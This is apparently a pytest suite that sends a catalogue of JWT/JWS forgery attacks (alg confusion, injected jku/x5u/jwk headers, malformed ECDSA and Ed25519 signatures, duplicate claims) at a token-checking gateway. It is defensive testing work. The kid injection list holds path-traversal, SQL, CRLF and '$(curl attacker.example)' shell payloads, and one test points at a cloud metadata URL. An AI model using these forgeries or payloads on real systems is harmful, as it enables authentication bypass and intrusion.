"""Every ATTACKS.md class that can be sent over HTTP, against the real Worker.

One test per catalogue item, named after its number (`test_a01_...`), parametrized over the
item's variants. Each refusal is checked against SPEC §4 (status, `error`, `WWW-Authenticate`,
`Cache-Control`) and against the origin's request log (nothing reached it); where the reason
matters, the decision log's precise reason code too. Items 9 and 41-44 (key cache and JWKS
documents) are in test_keys.py, items 39's basics in test_tokens.py.

Tokens come from joserfc (servers.Issuer.mint) or are built by hand (jwstools.jws: the exact
header and payload bytes, signed with pyca/cryptography) when the attack needs bytes no JOSE
library produces.
"""

from __future__ import annotations

import base64
import datetime
import json
import secrets
import time

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.x509.oid import NameOID
from joserfc import jwk

from conftest import ROOT
from jwstools import (
    P256_N, assert_refused, b64u, b64u_decode, bearer, der_signature, high_s_twin, jws,
    last_reason, raw_signature, remark, signing_input_of,
)

ROUTE = "/attacks/agent"
DEVICE_ROUTE = "/files/attack"
RFC = ROOT.parent / "shared" / "vectors" / "rfc" / "jose_rfc_vectors.json"

HEADER = {"alg": "ES256", "kid": "k-es256", "typ": "at+jwt"}


class Ctx:
    """Keys and builders for one test: the default issuer (ES256, EdDSA, RS256 keys)."""

    def __init__(self, servers, approov_secret):
        self.servers = servers
        self.iss = servers.issuer
        self.ec = self.iss.keys["k-es256"]
        self.ed = self.iss.keys["k-eddsa"]
        self.rsa = self.iss.keys["k-rs256"]
        self.approov = approov_secret

    def claims(self, **over) -> dict:
        return self.iss.claims(**over)

    def raw_claims(self, extra: str = "", **over) -> bytes:
        """The claims as JSON text, with `extra` spliced in before the closing brace."""
        text = json.dumps(self.claims(**over), separators=(",", ":"))
        return (text[:-1] + extra + "}").encode()

    def signed(self, header=None, payload=None, key=None, alg=None, **header_over) -> str:
        """A hand-built JWS over the exact bytes, signed with the issuer's real key."""
        if header is None:
            header = {**HEADER, **header_over}
            header = {k: v for k, v in header.items() if v is not None}
        if payload is None:
            payload = self.claims()
        if alg is None and isinstance(header, dict) and header.get("alg") not in ("ES256", "EdDSA", "Ed25519", "RS256", "HS256"):
            alg = "ES256"
        return jws(header, payload, key if key is not None else self.ec, alg=alg)

    def good(self, kid="k-es256", **claims) -> str:
        return self.iss.mint(kid, **claims)

    def device(self, **claims) -> str:
        now = int(time.time())
        body = {"did": "device-1", "iat": now, "exp": now + 300, **claims}
        return jws({"alg": "HS256", "typ": "JWT"}, body, self.approov)


@pytest.fixture
def ctx(servers, approov_secret):
    return Ctx(servers, approov_secret)


def send(gateway, token_or_headers, path=ROUTE):
    headers = token_or_headers if isinstance(token_or_headers, (dict, list)) else bearer(token_or_headers)
    return gateway.request("GET", path, headers)


CODES = {400: "invalid_request", 401: "invalid_token", 403: "insufficient_scope",
         503: "temporarily_unavailable"}


def expect(gateway, origin, resp, status, reasons=None):
    """Assert the outcome: 200 reaches the origin once; anything else is a SPEC §4 refusal that
    never reaches it, with one of `reasons` in the decision log when given."""
    if status == 200:
        assert resp.status == 200, resp
        assert len(origin.since()) == 1
        return
    assert_refused(resp, status, CODES[status], origin)
    if reasons:
        reasons = (reasons,) if isinstance(reasons, str) else reasons
        got = last_reason(gateway, resp.json()["request_id"])
        assert got in reasons, f"reason {got!r}, expected one of {reasons}"


def case(gateway, origin, token, status=401, reasons=None, path=ROUTE):
    expect(gateway, origin, send(gateway, token, path), status, reasons)


# ---- A. Header, algorithm and key selection -------------------------------------------------------

ALG_NONE = ["none", "None", "NONE", "nOnE"]


@pytest.mark.parametrize("alg", ALG_NONE)
def test_a01_alg_none(gateway, origin, ctx, alg):
    head = b64u(json.dumps({"alg": alg, "typ": "at+jwt"}))
    body = b64u(json.dumps(ctx.claims(sub="admin")))
    case(gateway, origin, f"{head}.{body}.", reasons="malformed_segment")
    # Keeps a trusted kid and an old valid signature.
    old_sig = ctx.good().rsplit(".", 1)[1]
    head = b64u(json.dumps({"alg": alg, "kid": "k-es256", "typ": "at+jwt"}))
    remark(origin, ctx.servers)
    case(gateway, origin, f"{head}.{body}.{old_sig}", reasons="alg_not_allowed")


def rfc_vector(vid: str) -> dict:
    if not RFC.is_file():
        pytest.fail(f"RFC vectors not found at {RFC}", pytrace=False)
    return next(v for v in json.loads(RFC.read_text())["vectors"] if v["id"] == vid)


def test_a01_rfc7515_a5_unsecured_jws(gateway, origin):
    case(gateway, origin, rfc_vector("rfc7515-A.5-none")["compact"])


@pytest.mark.parametrize(
    "alg, reason",
    [(None, "alg_missing"), ("null", "header_type"), (["ES256"], "header_type"), (256, "header_type"),
     ({"x": 1}, "header_type"), ("es256", "alg_not_allowed"), ("ES256 ", "alg_not_allowed"),
     ("ES256\u0000", "alg_not_allowed"), ("ES256K", "alg_not_allowed"), ("", "alg_not_allowed")],
    ids=["missing", "null", "array", "number", "object", "lowercase", "trailing-space", "nul",
         "ES256K", "empty"],
)
def test_a02_missing_or_mangled_alg(gateway, origin, ctx, alg, reason):
    header = {"kid": "k-es256", "typ": "at+jwt"}
    if alg is not None:
        header["alg"] = None if alg == "null" else alg
    case(gateway, origin, ctx.signed(header, alg="ES256"), reasons=reason)


def confusion_secrets(ctx) -> dict:
    pub = ctx.ec.raw_value.public_key()
    pem = pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    der = pub.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    point = pub.public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
    jwk_dict = ctx.ec.as_dict(private=False)
    rsa_pem = ctx.rsa.raw_value.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return {
        "pem": (pem, "k-es256"), "pem-no-newline": (pem.rstrip(b"\n"), "k-es256"),
        "der-spki": (der, "k-es256"), "sec1-point": (point, "k-es256"), "raw-x": (point[1:33], "k-es256"),
        "jwk-json": (json.dumps(jwk_dict).encode(), "k-es256"), "b64u-x": (jwk_dict["x"].encode(), "k-es256"),
        "rsa-pem": (rsa_pem, "k-rs256"), "no-kid": (pem, None),
    }


@pytest.mark.parametrize("variant", ["pem", "pem-no-newline", "der-spki", "sec1-point", "raw-x",
                                     "jwk-json", "b64u-x", "rsa-pem", "no-kid"])
def test_a03_alg_confusion_hs256_keyed_with_public_key(gateway, origin, ctx, variant):
    secret, kid = confusion_secrets(ctx)[variant]
    header = {"alg": "HS256", "typ": "at+jwt", **({"kid": kid} if kid else {})}
    token = jws(header, ctx.claims(sub="admin"), secret)
    case(gateway, origin, token, reasons="alg_not_allowed")
    # Where HS256 *is* allowed (the device provider), its key is the configured secret only:
    # with the public key's kid there is no such key; without a kid the MAC does not verify.
    remark(origin, ctx.servers)
    token = jws({**header, "typ": "JWT"}, {"did": "x", "exp": int(time.time()) + 60}, secret)
    expect(gateway, origin, gateway.request("GET", DEVICE_ROUTE, {"approov-token": token}), 401,
           "unknown_key" if kid else "bad_signature")


@pytest.mark.parametrize(
    "alg, kid, key",
    [("EdDSA", "k-es256", "ed"), ("ES256", "k-eddsa", "ec"), ("RS256", "k-es256", "rsa"),
     ("ES256", "k-rs256", "ec")],
    ids=["eddsa-with-ec-kid", "es256-with-ed-kid", "rs256-with-ec-kid", "es256-with-rsa-kid"],
)
def test_a04_kid_of_another_key_type(gateway, origin, ctx, alg, kid, key):
    token = ctx.signed({"alg": alg, "kid": kid, "typ": "at+jwt"}, key=getattr(ctx, key))
    case(gateway, origin, token, reasons="key_alg_mismatch")


def test_a04_missing_kid_policy(gateway, servers, origin, ctx):
    """Policy: without `kid` a token is checked only when exactly one key of its alg is published
    (the default issuer has one per alg); with several it is refused, never tried against each."""
    token = ctx.signed(kid=None)
    case(gateway, origin, token, 200)
    iss = servers.issuer_named("dup-kid")
    iss.add_key("ES256", "dup-kid-es256-b")
    remark(origin, servers)
    token = jws({"alg": "ES256", "typ": "at+jwt"}, iss.claims(), iss.keys["dup-kid-es256"])
    case(gateway, origin, token, reasons="kid_missing", path="/attacks/dup-kid")


def attacker_ec():
    return jwk.ECKey.generate_key("P-256", parameters={"kid": "attacker"}, private=True)


@pytest.mark.parametrize("variant", ["attacker-key", "trusted-kid", "ed25519-small-order"])
def test_a05_jwk_header_injection(gateway, origin, ctx, variant):
    if variant == "ed25519-small-order":
        identity = b64u(b"\x01" + b"\x00" * 31)
        header = {"alg": "EdDSA", "typ": "at+jwt",
                  "jwk": {"kty": "OKP", "crv": "Ed25519", "x": identity}}
        token = jws(header, ctx.claims(sub="admin"), signature=b"\x01" + b"\x00" * 63)
    else:
        attacker = attacker_ec()
        header = {"alg": "ES256", "typ": "at+jwt", "jwk": attacker.as_dict(private=False),
                  "kid": "k-es256" if variant == "trusted-kid" else "attacker"}
        token = jws(header, ctx.claims(sub="admin"), attacker)
    case(gateway, origin, token, reasons="unsupported_header")


@pytest.mark.parametrize("member", ["jku", "x5u"])
@pytest.mark.parametrize("target", ["local-trap", "metadata", "lookalike"])
def test_a06_jku_x5u_injection_makes_no_request(gateway, servers, origin, ctx, member, target):
    attacker = attacker_ec()
    servers.trap_jwks = {"keys": [attacker.as_dict(private=False)]}
    url = {
        "local-trap": f"{servers.base}/trap/{member}/jwks.json",
        "metadata": "http://169.254.169.254/latest/meta-data/",
        "lookalike": f"{servers.base}/trap/issuer.example.attacker.example/jwks.json",
    }[target]
    for kid in ("attacker", "k-es256"):
        remark(origin, servers)
        token = jws({"alg": "ES256", "typ": "at+jwt", "kid": kid, member: url},
                    ctx.claims(sub="admin"), attacker)
        case(gateway, origin, token, reasons="unsupported_header")
    time.sleep(0.2)
    assert servers.trap_hits == [], f"the gateway fetched a URL from a token header: {servers.trap_hits}"


def test_a07_x5c_self_signed_certificate(gateway, origin, ctx):
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.example")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=30))
            .sign(key, hashes.SHA256()))
    der = cert.public_bytes(serialization.Encoding.DER)
    header = {"alg": "ES256", "typ": "at+jwt", "kid": "k-es256",
              "x5c": [base64.b64encode(der).decode()]}
    case(gateway, origin, jws(header, ctx.claims(sub="admin"), key), reasons="unsupported_header")


KID_INJECTIONS = {
    "dev-null": "../../../../../../../dev/null",
    "etc-passwd": "../../../../etc/passwd",
    "proc-environ": "/proc/self/environ",
    "sql-or": "x' OR '1'='1",
    "sql-union": "x' UNION SELECT 'AAAA' -- ",
    "nul": "k-es256\u0000",
    "crlf": "k-es256\r\nX-Injected: 1",
    "url": "https://attacker.example/key",
    "shell": "$(curl attacker.example)|;`id`",
    "empty": "",
    "case": "K-ES256",
    "cyrillic": "k-es256".replace("e", "\u0435"),
    "8kib": "A" * 8192,
    "number": 1,
    "null": None,
    "array": ["k-es256"],
    "object": {"$ne": ""},
}


@pytest.mark.parametrize("name", list(KID_INJECTIONS))
def test_a08_kid_injection(gateway, origin, ctx, name):
    kid = KID_INJECTIONS[name]
    header = {"alg": "ES256", "typ": "at+jwt", "kid": kid}
    token = jws(header, ctx.claims(sub="admin"), ctx.ec)
    case(gateway, origin, token, reasons=("unknown_key", "header_type", "token_too_large"))
    if isinstance(kid, str) and len(kid) < 100:
        # The HS256 variants (empty key, 'AAAA') never reach an HMAC routine either.
        remark(origin, ctx.servers)
        for secret in (b"", b"AAAA"):
            token = jws({"alg": "HS256", "typ": "at+jwt", "kid": kid}, ctx.claims(sub="admin"), secret)
            case(gateway, origin, token, reasons="alg_not_allowed")


def test_a09_unknown_kid(gateway, origin, ctx):
    token = ctx.signed(kid=secrets.token_urlsafe(12))
    case(gateway, origin, token, reasons="unknown_key")


CRIT = {
    "undefined": {"crit": ["http://example.com/UNDEFINED"], "http://example.com/UNDEFINED": True},
    "empty": {"crit": []},
    "registered": {"crit": ["exp"]},
    "not-array": {"crit": "b64"},
    "absent-member": {"crit": ["x-foo"]},
}


@pytest.mark.parametrize("name", list(CRIT))
def test_a10_crit(gateway, origin, ctx, name):
    case(gateway, origin, ctx.signed(**CRIT[name]), reasons="crit_unsupported")


def test_a10_rfc7515_appendix_e(gateway, origin):
    case(gateway, origin, rfc_vector("rfc7515-E-crit-unknown")["compact"])


def test_a11_b64_false(gateway, origin, ctx):
    header = {**HEADER, "b64": False, "crit": ["b64"]}
    h = b64u(json.dumps(header, separators=(",", ":")))
    raw = '{"sub":"admin"}'
    sig = raw_signature("ES256", ctx.ec, f"{h}.{raw}".encode())
    case(gateway, origin, f"{h}.{raw}.{b64u(sig)}", reasons="malformed_segment")
    # With the whole claims set the raw payload has commas and quotes: still not base64url.
    raw = json.dumps(ctx.claims(), separators=(",", ":"))
    sig = raw_signature("ES256", ctx.ec, f"{h}.{raw}".encode())
    remark(origin, ctx.servers)
    case(gateway, origin, f"{h}.{raw}.{b64u(sig)}", reasons=("segment_count", "malformed_segment"))
    remark(origin, ctx.servers)
    case(gateway, origin, ctx.signed(b64=False), reasons="b64_unsupported")
    remark(origin, ctx.servers)
    case(gateway, origin, rfc_vector("rfc7797-4.2-b64-false-detached")["compact"])


def test_a12_nested_jwt(gateway, origin, ctx):
    inner_none = (b64u(json.dumps({"alg": "none"})) + "." + b64u(json.dumps(ctx.claims(sub="admin"))) + ".")
    case(gateway, origin, ctx.signed(payload=inner_none, cty="JWT"), reasons="unsupported_header")
    remark(origin, ctx.servers)
    outer = b64u(json.dumps({"alg": "none", "cty": "JWT"})) + "." + b64u(ctx.good()) + "."
    case(gateway, origin, outer)


@pytest.mark.parametrize(
    "name",
    ["jwe", "jws-plus-two", "one-segment", "two-segments", "four-segments", "trailing-dot",
     "dots-only", "empty-header", "empty-payload", "empty-token", "rfc7520-detached"],
)
def test_a13_jwe_and_segment_counts(gateway, origin, ctx, name):
    good = ctx.good()
    h, p, s = good.split(".")
    rnd = lambda n: b64u(secrets.token_bytes(n))  # noqa: E731
    token = {
        "jwe": ".".join([b64u(json.dumps({"alg": "RSA-OAEP-256", "enc": "A256GCM"})), rnd(256), rnd(12), rnd(64), rnd(16)]),
        "jws-plus-two": good + ".x.y",
        "one-segment": h,
        "two-segments": f"{h}.{p}",
        "four-segments": f"{good}.{s}",
        "trailing-dot": good + ".",
        "dots-only": "..",
        "empty-header": f".{p}.{s}",
        "empty-payload": f"{h}..{s}",
        "empty-token": "",
        "rfc7520-detached": rfc_vector("rfc7520-4.5-HS256-detached")["compact"],
    }[name]
    if name == "empty-token":
        case(gateway, origin, {"authorization": "Bearer "}, 400, "malformed_credential")
    else:
        case(gateway, origin, token, reasons=("segment_count", "malformed_segment"))


def test_a14_json_serialization(gateway, origin, ctx):
    h, p, s = ctx.good(sub="admin").split(".")
    flattened = json.dumps({"protected": h, "payload": p, "signature": s}, separators=(",", ":"))
    forged = b64u(json.dumps({"alg": "ES256"})) + "." + b64u(json.dumps(ctx.claims(sub="root"))) + "."
    mixed = json.dumps({forged: "", "protected": h, "payload": p, "signature": s}, separators=(",", ":"))
    rfc = "".join(rfc_vector("rfc7515-A.7-flattened-json")["serialized"].split())
    for token in (flattened, mixed, rfc):
        remark(origin, ctx.servers)
        # Only the compact form is a token: anything else is refused by the JWS parser.
        case(gateway, origin, token, reasons=("segment_count", "malformed_segment"))
    remark(origin, ctx.servers)
    single = json.dumps({"protected": h}, separators=(",", ":"))
    case(gateway, origin, single, reasons=("segment_count", "malformed_segment"))


DUP_HEADERS = {
    "none-then-es256": '{"alg":"none","alg":"ES256","kid":"k-es256","typ":"at+jwt"}',
    "es256-then-none": '{"alg":"ES256","alg":"none","kid":"k-es256","typ":"at+jwt"}',
    "escaped-alg": '{"alg":"ES256","\\u0061lg":"HS256","kid":"k-es256","typ":"at+jwt"}',
    "two-kids": '{"alg":"ES256","kid":"k-es256","kid":"k-eddsa","typ":"at+jwt"}',
    "two-typs": '{"alg":"ES256","kid":"k-es256","typ":"at+jwt","typ":"JWT"}',
}


@pytest.mark.parametrize("name", list(DUP_HEADERS))
def test_a15_duplicate_header_members(gateway, origin, ctx, name):
    token = jws(DUP_HEADERS[name], ctx.claims(), ctx.ec, alg="ES256")
    case(gateway, origin, token, reasons="duplicate_member")


DUP_CLAIMS = {
    "aud": ',"aud":"https://attacker.example"',
    "sub": ',"sub":"admin"',
    "exp": ',"exp":9999999999',
    "scope": ',"scope":"admin"',
    "escaped-iss": ',"\\u0069ss":"https://attacker.example"',
    "nested-act": ',"act":{"sub":"a","sub":"b"}',
}


@pytest.mark.parametrize("name", list(DUP_CLAIMS))
def test_a16_duplicate_claims(gateway, origin, ctx, name):
    payload = ctx.raw_claims(DUP_CLAIMS[name], scope="read")
    case(gateway, origin, ctx.signed(payload=payload), reasons="duplicate_member")


# ---- B. Signature encoding and cryptography -------------------------------------------------------

def with_signature(token: str, sig: bytes) -> str:
    return token.rsplit(".", 1)[0] + "." + b64u(sig)


def n_bytes(v: int, n: int = 32) -> bytes:
    return v.to_bytes(n, "big")


@pytest.mark.parametrize("name", ["r0-s0", "r-s-eq-n"])
def test_a17_psychic_signature(gateway, origin, ctx, name):
    sig = bytes(64) if name == "r0-s0" else n_bytes(P256_N) * 2
    case(gateway, origin, with_signature(ctx.good(sub="admin"), sig), reasons="bad_signature")


@pytest.mark.parametrize("name", ["r0", "s0", "r-eq-n", "s-eq-n", "r-max", "s-plus-n-33-bytes", "r1-s1"])
def test_a18_r_or_s_out_of_range(gateway, origin, ctx, name):
    token = ctx.good(sub="admin")
    raw = b64u_decode(token.rsplit(".", 1)[1])
    r, s = raw[:32], raw[32:]
    sig = {
        "r0": bytes(32) + s, "s0": r + bytes(32), "r-eq-n": n_bytes(P256_N) + s,
        "s-eq-n": r + n_bytes(P256_N), "r-max": b"\xff" * 32 + s,
        "s-plus-n-33-bytes": r + n_bytes(int.from_bytes(s, "big") + P256_N, 33),
        "r1-s1": n_bytes(1) + n_bytes(1),
    }[name]
    case(gateway, origin, with_signature(token, sig), reasons=("bad_signature", "signature_length"))


def test_a19_high_s_twin_is_accepted_but_replay_is_keyed_on_jti(gateway, servers, origin, ctx):
    # policy_accept: the twin is a valid ES256 signature (RFC 7518 does not require low-S).
    token = ctx.good()
    twin = high_s_twin(token)
    assert twin != token
    for t in (token, twin):
        remark(origin, servers)
        case(gateway, origin, t, 200)
    # One-time tokens: the twin of a used token is a replay, whichever spelling came first.
    for first_high in (False, True):
        token = ctx.good()
        twin = high_s_twin(token)
        first, second = (twin, token) if first_high else (token, twin)
        remark(origin, servers)
        case(gateway, origin, first, 200, path="/attacks/replay")
        remark(origin, servers)
        case(gateway, origin, second, reasons="replayed_token", path="/attacks/replay")


def test_a20_der_signature(gateway, origin, ctx):
    token = ctx.good(sub="admin")
    der = der_signature(ctx.ec, signing_input_of(token))
    case(gateway, origin, with_signature(token, der), reasons="signature_length")


@pytest.mark.parametrize(
    "name",
    ["es256-63", "es256-65", "es256-66-padded", "es256-128", "ed25519-63", "ed25519-65",
     "rs256-255", "rs256-257-leading-zero", "changed-payload"],
)
def test_a21_wrong_signature_length(gateway, origin, ctx, name):
    kind = name.split("-")[0]
    kid = {"es256": "k-es256", "ed25519": "k-eddsa", "rs256": "k-rs256", "changed": "k-es256"}[kind]
    token = ctx.good(kid)
    sig = b64u_decode(token.rsplit(".", 1)[1])
    if name == "changed-payload":
        h, _, s = token.split(".")
        token = f"{h}.{b64u(json.dumps(ctx.claims(sub='admin')))}.{s}"
        case(gateway, origin, token, reasons="bad_signature")
        return
    sig = {
        "es256-63": sig[:63], "es256-65": sig + b"\x00", "es256-66-padded": b"\x00" + sig[:32] + b"\x00" + sig[32:],
        "es256-128": sig + sig, "ed25519-63": sig[:63], "ed25519-65": sig + b"\x00",
        "rs256-255": sig[:255], "rs256-257-leading-zero": b"\x00" + sig,
    }[name]
    case(gateway, origin, with_signature(token, sig), reasons="signature_length")


@pytest.mark.parametrize("name", ["truncated-16", "empty", "bit-flip", "weak-secret"])
def test_a26_hs256_tags(gateway, origin, ctx, name):
    token = ctx.device()
    tag = b64u_decode(token.rsplit(".", 1)[1])
    if name == "truncated-16":
        token, reasons = with_signature(token, tag[:16]), "signature_length"
    elif name == "empty":
        token, reasons = token.rsplit(".", 1)[0] + ".", "malformed_segment"
    elif name == "bit-flip":
        token, reasons = with_signature(token, bytes([tag[0] ^ 1]) + tag[1:]), "bad_signature"
    else:
        token = jws({"alg": "HS256", "typ": "JWT"}, {"did": "x", "exp": int(time.time()) + 60}, b"secret")
        reasons = "bad_signature"
    expect(gateway, origin, gateway.request("GET", DEVICE_ROUTE, {"approov-token": token}), 401, reasons)


L = 2**252 + 27742317777372353535851937790883648493


@pytest.mark.parametrize("name", ["s-plus-l", "s-high-bit"])
def test_a22_ed25519_non_canonical_s(gateway, origin, ctx, name):
    token = ctx.good("k-eddsa")
    sig = b64u_decode(token.rsplit(".", 1)[1])
    s = int.from_bytes(sig[32:], "little")
    new_s = (s + L).to_bytes(32, "little") if name == "s-plus-l" else (s | (1 << 255)).to_bytes(32, "little")
    case(gateway, origin, with_signature(token, sig[:32] + new_s), reasons="bad_signature")


def test_a23_weak_ed25519_keys_in_jwks(gateway, servers, origin):
    iss = servers.issuer_named("weak-ed25519")
    iss.body = json.dumps({"keys": [
        {"kty": "OKP", "crv": "Ed25519", "kid": "weak", "x": b64u(b"\x01" + b"\x00" * 31)},
        {"kty": "OKP", "crv": "Ed25519", "kid": "noncanonical", "x": "7v_______________________________________38"},
        iss.keys["weak-ed25519-eddsa"].as_dict(private=False),
    ]}).encode()
    forgery = b"\x01" + b"\x00" * 63  # R = identity, S = 0: "valid" for any message under `verify`
    for kid in ("weak", "noncanonical"):
        remark(origin, servers)
        token = jws({"alg": "EdDSA", "kid": kid, "typ": "at+jwt"}, iss.claims(sub="admin"), signature=forgery)
        case(gateway, origin, token, reasons="unknown_key", path="/attacks/weak-ed25519")
    remark(origin, servers)
    case(gateway, origin, iss.mint("weak-ed25519-eddsa"), 200, path="/attacks/weak-ed25519")


def test_a24_malformed_keys_in_jwks(gateway, servers, origin):
    iss = servers.issuer_named("bad-keys")
    ec_jwk = iss.keys["bad-keys-es256"].as_dict(private=False)
    ed_jwk = iss.keys["bad-keys-eddsa"].as_dict(private=False)
    y = bytearray(b64u_decode(ec_jwk["y"]))
    y[-1] ^= 1
    bad = {
        "off-curve": {**ec_jwk, "y": b64u(bytes(y))},
        "x-31-bytes": {**ec_jwk, "x": b64u(b64u_decode(ec_jwk["x"])[1:])},
        "x-33-bytes": {**ec_jwk, "x": b64u(b"\x00" + b64u_decode(ec_jwk["x"]))},
        "x-ge-p": {**ec_jwk, "x": b64u(b"\xff" * 32)},
        "p384-label": {**ec_jwk, "crv": "P-384"},
        "secp256k1-label": {**ec_jwk, "crv": "secp256k1"},
        "x25519": {**ed_jwk, "crv": "X25519"},
        "ed448": {**ed_jwk, "crv": "Ed448"},
    }
    iss.body = json.dumps({"keys": [{**k, "kid": kid} for kid, k in bad.items()]}).encode()
    for kid in bad:
        signer = iss.keys["bad-keys-eddsa" if kid in ("x25519", "ed448") else "bad-keys-es256"]
        alg = "EdDSA" if kid in ("x25519", "ed448") else "ES256"
        token = jws({"alg": alg, "kid": kid, "typ": "at+jwt"}, iss.claims(sub="admin"), signer)
        remark(origin, servers)
        case(gateway, origin, token, reasons="unknown_key", path="/attacks/bad-keys")


@pytest.mark.parametrize("name", ["length-255", "zero", "pss", "ps256-alg"])
def test_a25_rsa(gateway, origin, ctx, name):
    token = ctx.good("k-rs256")
    if name == "length-255":
        token, reasons = with_signature(token, b64u_decode(token.rsplit(".", 1)[1])[:255]), "signature_length"
    elif name == "zero":
        token, reasons = with_signature(token, bytes(256)), "bad_signature"
    elif name == "pss":
        sig = ctx.rsa.raw_value.sign(
            signing_input_of(token),
            padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32), hashes.SHA256())
        token, reasons = with_signature(token, sig), "bad_signature"
    else:
        header = {"alg": "PS256", "kid": "k-rs256", "typ": "at+jwt"}
        h = b64u(json.dumps(header))
        p = b64u(json.dumps(ctx.claims()))
        sig = ctx.rsa.raw_value.sign(f"{h}.{p}".encode(),
                                     padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32),
                                     hashes.SHA256())
        token, reasons = f"{h}.{p}.{b64u(sig)}", "alg_not_allowed"
    case(gateway, origin, token, reasons=reasons)


# ---- C. Encoding, parsing and resource limits -----------------------------------------------------

@pytest.mark.parametrize(
    "name", ["padded-signed-header", "padded-signature", "std-alphabet", "trailing-bits", "star", "pct-2e"],
)
def test_a27_non_canonical_base64url(gateway, origin, ctx, name):
    token = ctx.good()
    h, p, s = token.split(".")
    if name == "padded-signed-header":
        hdr = b64u(json.dumps({**HEADER, "x": "y"}))
        hdr += "=" * (-len(hdr) % 4) or "=="
        sig = raw_signature("ES256", ctx.ec, f"{hdr}.{p}".encode())
        token = f"{hdr}.{p}.{b64u(sig)}"
    elif name == "padded-signature":
        token = f"{h}.{p}.{s}=="
    elif name == "std-alphabet":
        std = base64.b64encode(b64u_decode(s)).decode().rstrip("=")
        if "+" not in std and "/" not in std:
            std = std[:-2] + "+/"  # make sure the standard alphabet shows
        token = f"{h}.{p}.{std}"
    elif name == "trailing-bits":
        # 64 bytes → 86 characters; the last one carries 2 bits and 4 unused bits that must be 0.
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        last = alphabet.index(s[-1])
        token = f"{h}.{p}.{s[:-1]}{alphabet[last | 0b0001]}"
        assert token != ctx.good() and b64u_decode(token.split('.')[2]) == b64u_decode(s)
    elif name == "star":
        token = f"{h}.{p[:10]}*{p[11:]}.{s}"
    else:
        token = f"{h}%2E{p}%2E{s}"
    case(gateway, origin, token, reasons=("malformed_segment", "base64", "segment_count"))


def test_a28_whitespace_and_duplicate_credentials(gateway, servers, origin, ctx):
    token = ctx.good()
    h, p, s = token.split(".")
    # Policy: RFC 6750 `1*SP` after the scheme, and the HTTP layer trims optional whitespace
    # around the field value: two spaces and surrounding space are accepted.
    for value in (f"Bearer  {token}", f" Bearer {token} ", f"bearer {token}"):
        remark(origin, servers)
        case(gateway, origin, {"authorization": value}, 200)
    # Anything inside the token is refused by the JWS parser (never trimmed away): 401.
    for value in (f"Bearer {h}.{p[:5]} {p[5:]}.{s}", f"Bearer {h}.{p}.\t{s}",
                  f"Bearer {h}.{p}.{s}\x00".encode("latin-1"), f"Bearer {h}.\u200b{p}.{s}".encode()):
        remark(origin, servers)
        resp = gateway.request("GET", ROUTE, [("authorization", value)])
        if resp.status == 400 and not resp.body.startswith(b"{"):
            # The runtime itself refused the header bytes before the Worker ran.
            assert origin.since() == []
            continue
        expect(gateway, origin, resp, 401, ("malformed_segment", "token_too_large"))
    # Two Authorization headers, or a list in one: 400 invalid_request.
    for headers in ([("authorization", f"Bearer {token}"), ("authorization", f"Bearer {token}")],
                    [("authorization", f"Bearer {token}"), ("Authorization", f"Bearer {ctx.good()}")],
                    [("authorization", f"Bearer {token}, Bearer {token}")]):
        remark(origin, servers)
        case(gateway, origin, headers, 400, "duplicate_credential")


def nested(depth: int, leaf="1", kind="array"):
    return ("[" * depth + leaf + "]" * depth) if kind == "array" else ('{"a":' * depth + leaf + "}" * depth)


@pytest.mark.parametrize("name", ["token-9000", "header-17k", "dots-9000", "claims-200-arrays",
                                  "header-200-objects", "header-64k"])
def test_a29_oversized_and_deeply_nested(gateway, origin, ctx, name):
    if name == "token-9000":
        token, reasons = ctx.good(sub="a" * 6000), "token_too_large"
    elif name == "header-17k":
        token, reasons = "a" * (17 * 1024), "token_too_large"
    elif name == "dots-9000":
        token, reasons = "." * 9000, "token_too_large"
    elif name == "claims-200-arrays":
        token, reasons = ctx.signed(payload=ctx.raw_claims(',"x":' + nested(200))), "json"
    elif name == "header-200-objects":
        header = '{"alg":"ES256","kid":"k-es256","typ":"at+jwt","x":' + nested(200, kind="object") + "}"
        token, reasons = jws(header, ctx.claims(), ctx.ec, alg="ES256"), ("json", "token_too_large")
    else:
        resp = gateway.request("GET", ROUTE, bearer("a" * (64 * 1024)))
        assert resp.status in (400, 401, 413, 431), resp
        if resp.status == 401:
            expect(gateway, origin, resp, 401, "token_too_large")
        assert origin.since() == []
        return
    case(gateway, origin, token, reasons=reasons)


JSON_SHAPES = {
    "overlong-utf8": ("payload", None),
    "lone-surrogate": ("payload", None),
    "bom": ("payload", None),
    "payload-array": ("payload", None),
    "header-string": ("header", None),
    "trailing-garbage": ("payload", None),
    "header-trailing-garbage": ("header", None),
}


@pytest.mark.parametrize("name", list(JSON_SHAPES))
def test_a30_bad_utf8_and_json_shapes(gateway, origin, ctx, name):
    claims = json.dumps(ctx.claims(), separators=(",", ":")).encode()
    header = json.dumps(HEADER, separators=(",", ":")).encode()
    payload = {
        "overlong-utf8": claims[:-1] + b',"x":"\xc0\xaf"}',
        "lone-surrogate": claims[:-1] + b',"sub2":"\\ud800"}',
        "bom": b"\xef\xbb\xbf" + claims,
        "payload-array": b"[" + claims + b"]",
        "trailing-garbage": claims + b" garbage",
    }.get(name, claims)
    if name == "header-string":
        header = json.dumps(json.dumps(HEADER)).encode()
    if name == "header-trailing-garbage":
        header = header + b"x"
    token = jws(header, payload, ctx.ec, alg="ES256")
    case(gateway, origin, token, reasons=("utf8", "json"))


def time_cases():
    now = int(time.time())
    return {
        # ATTACKS #31
        "exp-string": ('"exp":"%d"' % (now + 300), "claim_type"),
        "exp-true": ('"exp":true', "claim_type"),
